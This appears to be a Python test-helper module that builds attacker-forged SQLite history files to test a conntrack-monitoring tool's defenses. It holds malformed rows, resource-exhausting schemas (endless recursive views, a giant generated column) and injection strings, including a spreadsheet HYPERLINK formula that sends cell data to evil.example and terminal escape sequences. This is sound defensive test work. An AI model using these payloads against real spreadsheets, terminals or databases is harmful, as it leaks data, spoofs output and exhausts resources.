"""Histories as their owner could forge them."""

from __future__ import annotations

import json
import os
import sqlite3
import time
from pathlib import Path

import pasts

from check_conntrack_lib.history import database as history_database
from check_conntrack_lib.history.schema_check import columns

NOBODY = 65534
ENDLESS = 'WITH RECURSIVE x(i) AS (SELECT 1 UNION ALL SELECT i+1 FROM x)'
SAMPLE = {'time': pasts.BEGIN, 'boot': 1, 'netns': pasts.INITIAL, 'uptime': 1000.0, 'entries': 100,
          'maximum': 262144, 'buckets': 262144, 'counters': None}
PROFILE = {'entries': 1, 'seen': 1, 'assured': 0, 'unreplied': 0, 'snat': 0, 'dnat': 0, 'nat': 0, 'offloaded': 0,
           'uncertain': 0, 'states': [], 'sources': [], 'destinations': [], 'services': [], 'targets': []}
#: rows that no check wrote: what a sample has instead
ROWS = {
    'no-drop': {'counters': '{"cpus":1,"x":[1]}'},
    'cpus': {'counters': '{"cpus":65536,"zero":"defcrims"}'},
    'year': {'time': 9e11},
    'year-10000': {'time': 253402300800.0},
    'far above the maximum': {'entries': 400_000_000},
    'more than a kernel counts': {'entries': 10**12, 'maximum': 0},
    'huge': {'entries': 2**62, 'maximum': 2**62},
    'negative': {'entries': -2**62, 'maximum': 5},
    'text': {'entries': 'x', 'maximum': 'y'},
    'bytes': {'uptime': b'\xff\xfe', 'counters': b'\xff'},
    'deep': {'counters': '[' * 200_000},
    'digits': {'counters': '{"cpus":1,"drop":[%s]}' % ('9' * 6000)},
    'not a number': {'counters': '{"cpus":NaN,"drop":[0]}'},
    'infinity': {'counters': '{"cpus":1,"drop":[Infinity]}'},
    'infinite uptime': {'uptime': float('inf')},
    'a long text': {'counters': '{"cpus":1,"zero":"d' + 'x' * 1_200_000 + '"}'},
}
#: boot ids that are none
BOOTS = ('-1', '=HYPERLINK("http://evil.example/?"&A1,"ok")\x1b]0;owned\x07\x1b[2J\u202e', '<script>', 'a' * 65, '')
#: what else the file may be
SCHEMAS = {
    'view-forever': ('ALTER TABLE boot RENAME TO b', f'CREATE VIEW boot AS {ENDLESS} '
                     'SELECT (SELECT count(*) FROM x WHERE i<0) AS id, "" AS boot_id'),
    'endless-rows': ('ALTER TABLE boot RENAME TO b', f'CREATE VIEW boot AS {ENDLESS} SELECT 1 AS id, "a" AS boot_id '
                     'FROM x'),
    'generated': ('DROP TABLE profile', 'CREATE TABLE profile (time REAL NOT NULL, boot INTEGER NOT NULL, netns '
                  'INTEGER NOT NULL, uptime REAL NOT NULL, quiet INTEGER NOT NULL, '
                  'text TEXT AS (hex(zeroblob(300000000))))', 'CREATE INDEX profile_by_namespace ON profile '
                  '(boot, netns, uptime)', 'INSERT INTO profile VALUES (1, 1, 1, 1, 1)'),
    'trigger': ('CREATE TRIGGER t AFTER INSERT ON sample BEGIN SELECT 1; END',),
    'another table': ('CREATE TABLE more (x)',),
    'another index': ('CREATE INDEX more ON sample (hex(entries))',),
    'virtual': ('CREATE VIRTUAL TABLE f USING fts5(x)',),
    'wal': ('PRAGMA journal_mode=WAL',),
}


def write(path: Path, rows: int = 3, boot_id: str = '5e2bb74a', statements: tuple[str, ...] = (),
          profile: str | None = None, **instead: object) -> Path:
    """A history of so many samples, with values and statements of the attacker's."""
    database = sqlite3.connect(path, isolation_level=None)
    database.execute('PRAGMA synchronous=OFF')
    database.executescript(history_database.SCHEMA)
    database.execute('INSERT INTO boot VALUES (1, ?)', (boot_id,))
    names = columns('sample')
    database.execute('BEGIN')
    for k in range(rows):
        values = {**SAMPLE, 'time': SAMPLE['time'] + 30 * k, 'uptime': 1000.0 + 30 * k, **instead}  # type: ignore[operator]
        database.execute(f'INSERT INTO sample VALUES ({", ".join("?" * len(names))})',
                         [values.get(name) for name in names])
    if profile is not None:
        values = {**SAMPLE, 'quiet': 1, 'text': profile}
        names = columns('profile')
        database.execute(f'INSERT INTO profile VALUES ({", ".join("?" * len(names))})',
                         [values.get(name) for name in names])
    database.execute('COMMIT')
    for statement in statements:
        database.execute(statement)
    database.close()
    for left in ('-wal', '-shm', '-journal'):
        if os.path.exists(str(path) + left):
            os.unlink(str(path) + left)
    return path


def profile(**instead: object) -> str:
    return json.dumps({**PROFILE, **instead})


def children(pid: int | str = 'self') -> set[int]:
    """Processes of this user's that this one has started and not waited for."""
    try:
        return set(map(int, Path(f'/proc/{pid}/task/{pid if pid != "self" else os.getpid()}/children')
                       .read_text().split()))
    except OSError:
        return set()


def wait_for(true: object, seconds: float = 20) -> None:
    end = time.monotonic() + seconds
    while not true():  # type: ignore[operator]
        assert time.monotonic() < end
        time.sleep(0.01)
